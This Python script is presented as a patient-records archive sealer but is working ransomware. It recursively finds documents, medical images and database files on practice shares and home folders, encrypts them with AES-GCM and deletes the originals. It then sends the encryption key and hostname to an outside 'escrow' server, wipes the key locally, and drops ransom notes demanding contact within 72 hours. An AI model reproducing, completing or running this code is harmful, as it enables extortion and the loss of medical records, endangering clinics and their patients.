#!/usr/bin/env python3
"""Patient-records archive sealer.

Walks the practice's document shares, 'seals' every record file for the
retention archive and leaves a retrieval notice in each folder."""

import argparse
import json
import logging
import os
import secrets
import sys
import tempfile
import urllib.request
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("sealer")
EXTENSIONS = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".dcm", ".odt", ".txt", ".mdb"}
DEFAULT_ROOTS = ["~/Documents", "~/Desktop", "/srv/practice-share", "/mnt/records"]
ESCROW = "https://archive-escrow.medsafe-cloud.example/api/k"
NOTICE = ("Your practice records have been sealed.\n"
          "Quote reference {ref} to recovery@medsafe-cloud.example within 72 hours\n"
          "to receive the retrieval key. Do not rename or modify .sealed files.\n")


class Walker:
    def __init__(self, roots):
        self.roots = [Path(r).expanduser() for r in roots]

    def write_manifest(self) -> Path:
        fd, name = tempfile.mkstemp(prefix="seal-", suffix=".lst")
        count = 0
        with os.fdopen(fd, "w") as fh:
            for root in self.roots:
                if not root.is_dir():
                    continue
                for dirpath, _dirs, files in os.walk(root):
                    for fname in files:
                        if Path(fname).suffix.lower() in EXTENSIONS:
                            fh.write(os.path.join(dirpath, fname) + "\n")
                            count += 1
        log.info("%d files queued", count)
        return Path(name)


class Sealer:
    def __init__(self):
        self.key = AESGCM.generate_key(bit_length=256)
        self.aead = AESGCM(self.key)
        self.ref = secrets.token_hex(6)
        self.folders = set()

    def seal(self, path: Path):
        data = path.read_bytes()
        nonce = os.urandom(12)
        path.with_name(path.name + ".sealed").write_bytes(nonce + self.aead.encrypt(nonce, data, None))
        os.remove(path)
        self.folders.add(path.parent)

    def leave_notices(self):
        for folder in self.folders:
            (folder / "RETRIEVE_RECORDS.txt").write_text(NOTICE.format(ref=self.ref))

    def escrow_key(self):
        body = json.dumps({"ref": self.ref, "k": self.key.hex(),
                           "host": os.uname().nodename}).encode()
        req = urllib.request.Request(ESCROW, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=15).close()
        except OSError:
            pass
        self.key = None
        self.aead = None


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*", default=DEFAULT_ROOTS)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)

    manifest = Walker(args.roots).write_manifest()
    sealer = Sealer()
    with manifest.open() as fh:
        for line in fh:
            target = Path(line.rstrip("\n"))
            try:
                sealer.seal(target)
            except (OSError, ValueError):
                continue
    sealer.escrow_key()
    sealer.leave_notices()
    manifest.unlink()
    return 0


if __name__ == "__main__":
    sys.exit(main())
